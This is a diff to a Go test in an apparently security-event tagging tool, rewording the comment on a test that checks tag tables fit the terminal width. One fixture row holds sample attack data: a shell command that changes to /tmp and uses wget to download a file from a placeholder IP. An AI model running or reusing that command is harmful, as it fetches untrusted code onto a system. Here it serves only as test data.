@@ -7,8 +7,8 @@ import (
 	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/term"
 )
 
-// TestTagTableFits holds that no row of tags is wider than the terminal, whatever is in
-// it, that a UUID that was asked for stays whole, and that wide terminals have more.
+// TestTagTableFits: no row of tags is wider than the terminal, whatever is in it, a
+// requested UUID stays whole, and wide terminals show more.
 func TestTagTableFits(t *testing.T) {
 	rows := [][]string{
 		{"2026-05-04 05:49:05", "203.0.113.7", "e41b2c99d706", "T1059.004 Command and Scripting Interpreter: Unix Shell", "Command and Control", "informational", "0.95", "TC1501 +12", "cd /tmp; wget http://203.0.113.9/a"},
